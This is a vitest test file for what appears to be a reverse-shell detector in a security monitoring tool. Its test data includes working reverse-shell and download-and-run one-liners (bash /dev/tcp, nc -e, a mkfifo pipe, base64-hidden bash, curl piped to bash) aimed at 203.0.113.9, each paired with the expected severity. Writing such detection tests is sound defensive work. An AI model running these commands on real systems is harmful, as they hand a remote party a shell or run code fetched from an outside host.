import { expect, test } from 'vitest'
import { typed } from '../../../test/linux-process.ts'
import { command, matchOf, severityFor } from '../../../test/record-detector.ts'
import { reverseShell } from './reverse-shell.ts'

test('names the far side', () => {
  expect(matchOf(reverseShell, typed('bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"'))?.addresses).toEqual(['203.0.113.9'])
})

test.each([
  ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'high'],
  ['nc -e /bin/sh 203.0.113.9 4444', 'high'],
  ['sh -c "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"', 'high'],
  ['python3 -c "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)"', 'high'],
  ['bash -c {echo,Y3VybA==}|{base64,-d}|{bash,-i}', 'medium'],
  ['sh -c "curl -s http://203.0.113.9/x | bash"', 'medium'],
  ['sh -c "wget -qO- https://files.example/x.sh | sh"', 'low'],
  ['sh -c "curl -fsSL https://get.docker.com | sh"', ''],
  ['nc -z 10.0.0.5 443', ''],
  ['ssh gw01 uptime', ''],
  ['sh -c "echo test | base64 -d > /tmp/x"', ''],
  ['python3 manage.py runserver', ''],
])('%s: %s', (line, severity) => {
  expect(severityFor(reverseShell, typed(line))).toBe(severity)
})

test('commands in base 64 are read, never run', () => {
  const hidden = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n').toString('base64')
  const match = matchOf(reverseShell, typed(`bash -c {echo,${hidden}}|{base64,-d}|{bash,-i}`))
  expect([match?.severity, match?.addresses, match?.title.slice(0, 88)]).toEqual([
    'high',
    ['203.0.113.9'],
    'A shell connected to another machine: bash -i >& /dev/tcp/203.0.113.9/443 0>&1, hidden i',
  ])
})

test('a program of Windows is told by others', () => {
  expect(severityFor(reverseShell, command('cmd.exe /c "curl http://203.0.113.9/x | sh"'))).toBe('')
})
